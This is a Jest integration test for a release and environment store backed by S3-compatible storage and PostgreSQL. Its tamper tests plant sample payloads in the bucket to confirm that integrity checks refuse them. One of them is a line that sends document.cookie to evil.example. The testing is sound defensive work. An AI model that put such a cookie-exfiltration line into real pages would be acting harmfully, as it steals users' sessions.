/**
 * The platform store against real servers: release files in S3-compatible storage (s3rver,
 * started here) and environment revisions in PostgreSQL (127.0.0.1:5432, database `test`, a
 * schema of this run's own, dropped after). The race runs real processes from separate working
 * directories; with no configuration the disk store is used.
 */
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import pg from 'pg';
import S3rver from 's3rver';
import { rootDir } from '@thrive/platform/node';
import { ConcurrentWriteError, pinOf } from '../environments';
import { publishRelease, type ReleaseRecord } from '../releases';
import { openPlatformStore, type PlatformStore } from './index';

const DATABASE_URL =
  process.env.THRIVE_TEST_DATABASE_URL ?? 'postgres://postgres@127.0.0.1:5432/test';
const BUCKET = 'thrive-releases';
const SCHEMA = `store_test_${process.pid}_${Date.now()}`;

let temp: string;
let s3: S3rver;
let storeEnv: Record<string, string>;
let store: PlatformStore;

/** A small, valid remote build (manifest, entry, a chunk with its SRI map) to publish. */
function fakeBuild(dir: string, marker: string) {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(
    path.join(dir, 'mf-manifest.json'),
    JSON.stringify({
      metaData: { remoteEntry: { name: 'remoteEntry.js', path: '' } },
      shared: [],
      exposes: [{ path: './App' }],
    }),
  );
  fs.writeFileSync(path.join(dir, 'remoteEntry.js'), `/* ${marker} */ var auth = {};`);
}

function publish(marker: string): ReleaseRecord {
  const build = path.join(temp, `build-${marker}`);
  fakeBuild(build, marker);
  const record = publishRelease({
    remote: 'auth',
    buildDir: build,
    dataDir: path.join(temp, 'publisher'),
    commit: null,
  });
  return record;
}

beforeAll(async () => {
  temp = fs.mkdtempSync(path.join(os.tmpdir(), 'thrive-store-'));
  s3 = new S3rver({
    address: '127.0.0.1',
    port: 0,
    silent: true,
    directory: path.join(temp, 's3'),
    configureBuckets: [{ name: BUCKET }],
  });
  const { port } = await s3.run();
  storeEnv = {
    THRIVE_STORE_DATABASE_URL: DATABASE_URL,
    THRIVE_STORE_DATABASE_SCHEMA: SCHEMA,
    THRIVE_STORE_S3_BUCKET: BUCKET,
    THRIVE_STORE_S3_ENDPOINT: `http://127.0.0.1:${port}`,
    THRIVE_STORE_S3_PATH_STYLE: '1',
    // s3rver's fixed credentials: requests are signed and checked as by a real S3.
    AWS_ACCESS_KEY_ID: 'S3RVER',
    AWS_SECRET_ACCESS_KEY: 'S3RVER',
  };
  Object.assign(process.env, { AWS_ACCESS_KEY_ID: 'S3RVER', AWS_SECRET_ACCESS_KEY: 'S3RVER' });
  store = openPlatformStore(storeEnv, path.join(temp, 'local'));
});

afterAll(async () => {
  await store?.close();
  const client = new pg.Client({ connectionString: DATABASE_URL });
  await client.connect();
  await client.query(`DROP SCHEMA IF EXISTS "${SCHEMA}" CASCADE`);
  await client.end();
  await s3?.close();
  fs.rmSync(temp, { recursive: true, force: true });
});

const configure = () => ({
  change: { action: 'configure' as const },
  releases: {},
  settings: { stagingOverrides: { enabled: false, allowedOrigins: [] } },
});

describe('the shared platform store', () => {
  it('says where things live', () => {
    expect(store.describe()).toBe(
      `environments in PostgreSQL (schema ${SCHEMA}), releases in s3://${BUCKET}/`,
    );
  });

  it('keeps environment revisions in PostgreSQL with a compare-and-swap', async () => {
    const envs = store.environments;
    expect(await envs.current('staging')).toMatchObject({ revision: 0, releases: {} });
    const first = await envs.commit('staging', 0, configure());
    expect(first.revision).toBe(1);
    expect((await envs.current('staging')).revision).toBe(1);
    // A writer that read revision 0 is refused, and nothing is written.
    await expect(envs.commit('staging', 0, configure())).rejects.toThrow(ConcurrentWriteError);
    await expect(envs.commit('staging', 0, configure())).rejects.toThrow(
      'expected revision 0, it is now 1',
    );
    // So is one that claims a revision the environment never reached.
    await expect(envs.commit('staging', 5, configure())).rejects.toThrow(ConcurrentWriteError);
    await envs.commit('staging', 1, configure());
    expect((await envs.history('staging')).map((r) => r.revision)).toEqual([1, 2]);
    expect(await envs.list()).toEqual(['staging']);
  });

  it('keeps release files in S3-compatible storage, the record last, never re-published', async () => {
    const record = publish('v1');
    const localDir = path.join(temp, 'publisher', 'releases', 'auth', record.version);
    expect(await store.releases.has('auth', record.version)).toBe(false);
    await store.releases.upload('auth', record.version, localDir);
    expect(await store.releases.has('auth', record.version)).toBe(true);
    expect(await store.releases.read('auth', record.version)).toEqual(record);
    expect((await store.releases.list('auth')).map((r) => r.version)).toEqual([record.version]);
    await expect(store.releases.upload('auth', record.version, localDir)).rejects.toThrow(
      'already exists',
    );
    // Another machine brings it down byte for byte.
    const elsewhere = path.join(temp, 'elsewhere', record.version);
    await store.releases.download('auth', record.version, elsewhere);
    for (const file of ['remoteEntry.js', 'mf-manifest.json', 'release.json']) {
      expect(fs.readFileSync(path.join(elsewhere, file))).toEqual(
        fs.readFileSync(path.join(localDir, file)),
      );
    }
    await expect(store.releases.read('auth', 'abcdefabcdef')).rejects.toThrow(
      'There is no auth release abcdefabcdef',
    );
  });

  /** Writes an object straight into the bucket, as anyone with write access to it could. */
  const putObject = async (Key: string, Body: string) => {
    const { S3Client, PutObjectCommand } = await import('@aws-sdk/client-s3');
    const client = new S3Client({
      region: 'us-east-1',
      endpoint: storeEnv.THRIVE_STORE_S3_ENDPOINT,
      forcePathStyle: true,
      credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
    });
    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key, Body }));
  };

  it('refuses to bring down a release whose files in the bucket were changed or added (issue 40, M3)', async () => {
    for (const [marker, key, body] of [
      ['tampered', 'remoteEntry.js', 'fetch("https://evil.example/" + document.cookie)'],
      ['added', 'assets/extra.js', 'alert(1)'],
    ] as const) {
      const record = publish(marker);
      await store.releases.upload(
        'auth',
        record.version,
        path.join(temp, 'publisher', 'releases', 'auth', record.version),
      );
      await putObject(`releases/auth/${record.version}/${key}`, body);
      const to = path.join(temp, 'tamper-check', record.version);
      await expect(store.releases.download('auth', record.version, to)).rejects.toThrow(
        marker === 'tampered'
          ? `auth release ${record.version}: remoteEntry.js does not match its SHA-256.`
          : `auth release ${record.version}: assets/extra.js is not one of its files.`,
      );
      // Nothing of it is left to be served.
      expect(fs.existsSync(to)).toBe(false);
      expect(fs.readdirSync(path.dirname(to))).toEqual([]);
    }
  });

  it('a download removes the partial downloads of killed promotes (dead or stale), not a running one’s', async () => {
    const record = publish('partials');
    await store.releases.upload(
      'auth',
      record.version,
      path.join(temp, 'publisher', 'releases', 'auth', record.version),
    );
    const dir = path.join(temp, 'partials', 'auth');
    // A pid that ran and ended (a promote killed during its download).
    const ended = spawn(process.execPath, ['-e', '0']);
    const deadPid = await new Promise<number>((resolve) =>
      ended.once('exit', () => resolve(ended.pid!)),
    );
    const partial = (name: string, ageMs = 0) => {
      const folder = path.join(dir, name);
      fs.mkdirSync(folder, { recursive: true });
      fs.writeFileSync(path.join(folder, 'remoteEntry.js'), 'half', { mode: 0o444 });
      const at = new Date(Date.now() - ageMs);
      fs.utimesSync(folder, at, at);
      return name;
    };
    const killed = partial(`${record.version}.download-${deadPid}`);
    const olderKilled = partial(`abcdefabcdef.download-${deadPid}`);
    const running = partial(`bcdefabcdefa.download-${process.ppid}`);
    const stale = partial(`cdefabcdefab.download-${process.ppid}`, 2 * 24 * 3_600_000);

    await store.releases.download('auth', record.version, path.join(dir, record.version));
    const left = fs.readdirSync(dir).sort();
    expect(left).toEqual([record.version, running].sort());
    expect(left).not.toContain(killed);
    expect(left).not.toContain(olderKilled);
    expect(left).not.toContain(stale);
  }, 30_000);

  it('lets exactly one of two processes promoting at once from separate working directories win', async () => {
    const releases = [publish('race-a'), publish('race-b')];
    for (const r of releases) {
      await store.releases.upload(
        'auth',
        r.version,
        path.join(temp, 'publisher', 'releases', 'auth', r.version),
      );
    }
    const tsx = pathToFileURL(path.join(rootDir, 'node_modules/tsx/dist/loader.mjs')).href;
    const child = path.join(__dirname, 'testing', 'promoteRace.ts');
    let ready = 0;
    let go = () => {};
    const allReady = new Promise<void>((resolve) => (go = resolve));
    const contend = (record: ReleaseRecord, name: string) =>
      new Promise<{ code: number; out: string }>((resolve) => {
        // Each contender has a working directory of its own, as on another runner.
        const cwd = path.join(temp, name);
        fs.mkdirSync(cwd, { recursive: true });
        fs.writeFileSync(path.join(cwd, 'pnpm-workspace.yaml'), 'packages: []\n');
        const proc = spawn(
          process.execPath,
          ['--import', tsx, child, 'auth', record.version, 'production'],
          { cwd, env: { ...process.env, ...storeEnv }, stdio: ['pipe', 'pipe', 'pipe'] },
        );
        let out = '';
        // Both have read the environment (revision 0) before either writes.
        void allReady.then(() => proc.stdin.write('go\n'));
        proc.stdout.on('data', (d) => {
          out += d;
          if (String(d).includes('ready') && ++ready === 2) go();
        });
        proc.stderr.on('data', (d) => (out += d));
        proc.on('exit', (code) => resolve({ code: code ?? -1, out }));
      });
    const results = await Promise.all([
      contend(releases[0]!, 'runner-a'),
      contend(releases[1]!, 'runner-b'),
    ]);
    expect(results.map((r) => r.code).sort()).toEqual([0, 3]);
    const loser = results.find((r) => r.code === 3)!;
    expect(loser.out).toContain('expected revision 0, it is now 1');
    const winner = releases[results.findIndex((r) => r.code === 0)]!;
    const history = await store.environments.history('production');
    expect(history).toHaveLength(1);
    expect(history[0]!.releases.auth).toMatchObject({ version: winner.version });
    expect(pinOf(winner).entryIntegrity).toBe(history[0]!.releases.auth!.entryIntegrity);
    // Each runner brought its release into its own folder.
    expect(fs.existsSync(path.join(temp, 'runner-a', 'release', 'remoteEntry.js'))).toBe(true);
    expect(fs.existsSync(path.join(temp, 'runner-b', 'release', 'remoteEntry.js'))).toBe(true);
  }, 60_000);

  it('serves the live revision polled from the store, its releases brought from object storage', async () => {
    const promoted = (await store.environments.current('production')).releases.auth!;
    const servingDir = path.join(temp, 'serving-machine');
    Object.assign(process.env, storeEnv, {
      THRIVE_ENV: 'production',
      THRIVE_PLATFORM_DIR: servingDir,
    });
    try {
      jest.resetModules();
      const serving = await import('../serving');
      await serving.pollSharedStore(100);
      expect(serving.currentRuntimeConfig().remotes.auth).toMatchObject({
        version: promoted.version,
        integrity: promoted.entryIntegrity,
      });
      expect(
        fs.existsSync(
          path.join(servingDir, 'releases', 'auth', promoted.version, 'remoteEntry.js'),
        ),
      ).toBe(true);
      // A promotion written by another machine is served within the polling interval.
      const before = await store.environments.current('production');
      await store.environments.commit('production', before.revision, {
        change: { action: 'configure' },
        releases: before.releases,
        settings: { stagingOverrides: { enabled: true, allowedOrigins: ['https://s.example'] } },
      });
      await new Promise((resolve) => setTimeout(resolve, 400));
      expect(serving.currentRuntimeConfig().stagingOverrides).toEqual({
        enabled: true,
        allowedOrigins: ['https://s.example'],
      });
      serving.stopPollingSharedStore();
      await (await import('./index')).platformStore().close();
    } finally {
      for (const name of [...Object.keys(storeEnv), 'THRIVE_ENV', 'THRIVE_PLATFORM_DIR']) {
        if (!name.startsWith('AWS_')) delete process.env[name];
      }
    }
  });

  it('keeps serving the previous revision when the next names a release tampered with in the bucket (issue 40, M3)', async () => {
    const servingDir = path.join(temp, 'serving-machine-2');
    Object.assign(process.env, storeEnv, {
      THRIVE_ENV: 'production',
      THRIVE_PLATFORM_DIR: servingDir,
    });
    const errors = jest.spyOn(console, 'error').mockImplementation(() => {});
    try {
      jest.resetModules();
      const serving = await import('../serving');
      await serving.pollSharedStore(100);
      const before = await store.environments.current('production');
      const served = before.releases.auth!;
      expect(serving.currentRuntimeConfig().remotes.auth.version).toBe(served.version);

      const bad = publish('polled-bad');
      await store.releases.upload(
        'auth',
        bad.version,
        path.join(temp, 'publisher', 'releases', 'auth', bad.version),
      );
      await putObject(`releases/auth/${bad.version}/remoteEntry.js`, 'stealCookies()');
      await store.environments.commit('production', before.revision, {
        change: { action: 'promote', remote: 'auth', from: served.version, to: bad.version },
        releases: { ...before.releases, auth: pinOf(bad) },
        settings: before.settings,
      });
      await new Promise((resolve) => setTimeout(resolve, 400));
      expect(serving.currentRuntimeConfig().remotes.auth.version).toBe(served.version);
      expect(
        fs.existsSync(path.join(servingDir, 'releases', 'auth', bad.version, 'remoteEntry.js')),
      ).toBe(false);
      const refused = errors.mock.calls
        .map(([line]) => JSON.parse(String(line)) as { event: string; reason: string })
        .filter((line) => line.event === 'revision-refused');
      expect(refused).toHaveLength(1);
      expect(refused[0]!.reason).toBe(
        `auth release ${bad.version}: remoteEntry.js does not match its SHA-256.`,
      );
      serving.stopPollingSharedStore();
      await (await import('./index')).platformStore().close();
    } finally {
      errors.mockRestore();
      for (const name of [...Object.keys(storeEnv), 'THRIVE_ENV', 'THRIVE_PLATFORM_DIR']) {
        if (!name.startsWith('AWS_')) delete process.env[name];
      }
    }
  });

  it('uses the disk store when nothing is configured', async () => {
    const dir = path.join(temp, 'disk-default');
    const disk = openPlatformStore({}, dir);
    expect([disk.environments.kind, disk.releases.kind]).toEqual(['disk', 'disk']);
    expect(disk.describe()).toBe(`environments on disk (${dir}), releases on disk (${dir})`);
    await disk.environments.commit('staging', 0, configure());
    await expect(disk.environments.commit('staging', 0, configure())).rejects.toThrow(
      ConcurrentWriteError,
    );
    expect(fs.readdirSync(path.join(dir, 'environments', 'staging'))).toEqual(['000001.json']);
  });
});
